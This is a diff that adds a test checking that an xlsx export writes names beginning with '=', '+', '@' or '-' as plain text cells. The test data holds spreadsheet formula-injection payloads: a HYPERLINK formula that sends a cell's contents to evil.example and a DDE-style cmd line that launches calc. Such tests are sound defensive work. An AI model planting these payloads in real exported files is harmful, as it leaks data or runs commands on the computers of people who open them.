@@ -54,3 +54,26 @@ describe('writeXlsx', () => {
     expect(sheets[1]!.getRow(1).getCell(1).font?.bold).toBe(true);
   });
 });
+
+describe('writeXlsx and formulas', () => {
+  it('stores a name starting with = (and other formula starts) as a string cell, never as a formula', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3'];
+    const file = join(directory, 'formulas.xlsx');
+    const output = createWriteStream(file);
+    async function* records(): AsyncGenerator<Customer> {
+      for (const [index, name] of hostile.entries()) yield { source: 's', erp: 'file', code: `C${index}`, name, status: 'active', raw: {} };
+    }
+    await writeXlsx(records(), output, { fields: ['code', 'name'] });
+    await finished(output);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(file);
+    const sheet = workbook.worksheets[0]!;
+    // ExcelJS reads a <f> element of the sheet XML as a Formula cell: every one here is a plain string.
+    hostile.forEach((name, index) => {
+      const cell = sheet.getRow(index + 2).getCell(2);
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+      expect(cell.value).toBe(name);
+    });
+  });
+});
